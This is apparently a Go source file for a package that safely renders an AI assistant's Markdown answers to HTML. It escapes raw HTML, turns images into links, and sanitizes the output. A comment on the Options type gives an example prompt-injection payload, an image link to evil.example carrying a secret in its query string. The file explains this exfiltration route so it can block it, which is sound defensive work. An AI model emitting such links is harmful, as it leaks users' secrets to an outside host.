// Package markdown renders an assistant's Markdown answer to safe HTML for
// the chat page: CommonMark and GitHub's extensions (tables, strikethrough,
// autolinks, task lists) with goldmark, code blocks highlighted by chroma
// with CSS classes and wrapped with a copy button, and everything passed
// through a bluemonday policy built for exactly what the renderer emits.
//
// The answer is untrusted: a model writes whatever its prompt (or a page it
// was shown) asks for. So raw HTML in the Markdown is never rendered as
// markup: it is shown, escaped, as the text it is (goldmark runs without
// html.WithUnsafe), and the output is sanitized all the same, as defence in
// depth. An unfinished answer (a stopped stream)
// renders as far as it goes: an unclosed ``` fence is a code block to the
// end.
//
// The work is bounded: input over MaxInput, or nested deep enough to make
// goldmark slow (see nestingCost), is shown as escaped plain text instead.
package markdown

import (
	"bytes"
	"html"
	"strings"

	"github.com/microcosm-cc/bluemonday"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/renderer"
	gmhtml "github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/text"
	"github.com/yuin/goldmark/util"
)

// MaxInput is the largest answer, in bytes, rendered as Markdown: 1 MiB,
// hundreds of times a long answer. A larger one is shown as escaped plain
// text in a <pre>, which costs one pass over it.
const MaxInput = 1 << 20

// Options configure a Renderer.
type Options struct {
	// Images renders Markdown images as <img> (http and https only). Off —
	// the default — an image becomes a link to it: a model can be led by a
	// prompt injection to write ![](https://evil.example/?q=<secret>), and
	// an <img> would send the secret the moment the answer is shown,
	// without a click.
	Images bool
}

// Renderer turns Markdown into sanitized HTML. It is safe for concurrent
// use; build one with New.
type Renderer struct {
	md     goldmark.Markdown
	policy *bluemonday.Policy
}

// New returns a Renderer with the given options.
func New(opts Options) *Renderer {
	nodeRenderers := []util.PrioritizedValue{
		// Below the default HTML renderer's 1000, so these win for their kinds.
		util.Prioritized(newCodeRenderer(), 100),
		util.Prioritized(rawHTMLAsText{}, 100),
	}
	if !opts.Images {
		nodeRenderers = append(nodeRenderers, util.Prioritized(imageAsLink{}, 100))
	}
	md := goldmark.New(
		// GitHub's extensions, one by one to set the table's: its cells'
		// alignment as an align attribute, which the policy allows, not a
		// style attribute, which it does not. No parser.WithAutoHeadingID or
		// WithAttribute: ids in an answer could clobber the page's own
		// elements (DOM clobbering).
		goldmark.WithExtensions(
			extension.NewTable(extension.WithTableCellAlignMethod(extension.TableCellAlignAttribute)),
			extension.Strikethrough,
			extension.Linkify,
			extension.TaskList,
		),
		goldmark.WithRendererOptions(renderer.WithNodeRenderers(nodeRenderers...)),
	)
	return &Renderer{md: md, policy: newPolicy()}
}

// defaultRenderer serves Render: images as links.
var defaultRenderer = New(Options{})

// Render renders src with the default Renderer (images shown as links).
func Render(src string) string { return defaultRenderer.Render(src) }

// Render returns src, Markdown, as sanitized HTML. It never fails: input it
// will not render as Markdown (over MaxInput, nested too deep) comes back
// as escaped plain text.
func (r *Renderer) Render(src string) string {
	if len(src) > MaxInput {
		return plain(src)
	}
	// Invalid UTF-8 would be passed through by goldmark and mangled later;
	// replace it once, up front.
	src = strings.ToValidUTF8(src, "\uFFFD")
	if nestingCost(src) > maxNestingCost {
		return plain(src)
	}
	source := []byte(src)
	doc := r.md.Parser().Parse(text.NewReader(source), parser.WithContext(parser.NewContext()))
	budgetHighlighting(doc)
	var buf bytes.Buffer
	buf.Grow(len(src) * 2)
	if err := r.md.Renderer().Render(&buf, source, doc); err != nil {
		// Only a failing writer makes goldmark fail, and bytes.Buffer does
		// not fail; still, never hand out half a document.
		return plain(src)
	}
	return r.policy.SanitizeReader(&buf).String()
}

// plain is src as escaped text in a <pre>: safe without a sanitizer.
func plain(src string) string {
	return `<pre class="plain" tabindex="0">` + html.EscapeString(strings.ToValidUTF8(src, "\uFFFD")) + "</pre>"
}

// rawHTMLAsText shows HTML written in an answer as the text it is ("use a
// <div> here"), the way chat apps do, instead of dropping it as goldmark's
// safe mode would: a model explaining HTML must not lose its words. It is
// escaped, so it never becomes markup.
type rawHTMLAsText struct{}

// RegisterFuncs implements renderer.NodeRenderer.
func (rawHTMLAsText) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindRawHTML, renderRawHTML)
	reg.Register(ast.KindHTMLBlock, renderHTMLBlock)
}

func renderRawHTML(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
	if !entering {
		return ast.WalkContinue, nil
	}
	segs := node.(*ast.RawHTML).Segments
	for i := 0; i < segs.Len(); i++ {
		seg := segs.At(i)
		_, _ = w.WriteString(html.EscapeString(string(seg.Value(source))))
	}
	return ast.WalkSkipChildren, nil
}

func renderHTMLBlock(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
	if !entering {
		return ast.WalkContinue, nil
	}
	n := node.(*ast.HTMLBlock)
	_, _ = w.WriteString("<p>")
	lines := n.Lines()
	for i := 0; i < lines.Len(); i++ {
		seg := lines.At(i)
		_, _ = w.WriteString(html.EscapeString(string(seg.Value(source))))
	}
	if n.HasClosure() {
		_, _ = w.WriteString(html.EscapeString(string(n.ClosureLine.Value(source))))
	}
	_, _ = w.WriteString("</p>\n")
	return ast.WalkSkipChildren, nil
}

// imageAsLink renders an image as a link to it (see Options.Images).
type imageAsLink struct{}

// RegisterFuncs implements renderer.NodeRenderer.
func (imageAsLink) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindImage, renderImageAsLink)
}

func renderImageAsLink(w util.BufWriter, source []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
	n := node.(*ast.Image)
	// An image inside a link ([![logo](a.png)](https://…)) keeps only its
	// alt text: a link cannot hold another.
	inLink := false
	for p := n.Parent(); p != nil; p = p.Parent() {
		if p.Kind() == ast.KindLink {
			inLink = true
			break
		}
	}
	if inLink {
		return ast.WalkContinue, nil
	}
	if entering {
		_, _ = w.WriteString(`<a href="`)
		// Same test goldmark applies to links; the policy checks again.
		if !gmhtml.IsDangerousURL(n.Destination) {
			_, _ = w.Write(util.EscapeHTML(util.URLEscape(n.Destination, true)))
		}
		_, _ = w.WriteString(`">`)
		if !n.HasChildren() {
			// No alt text: show where the image is rather than nothing.
			_, _ = w.Write(util.EscapeHTML(n.Destination))
		}
	} else {
		_, _ = w.WriteString("</a>")
	}
	return ast.WalkContinue, nil
}
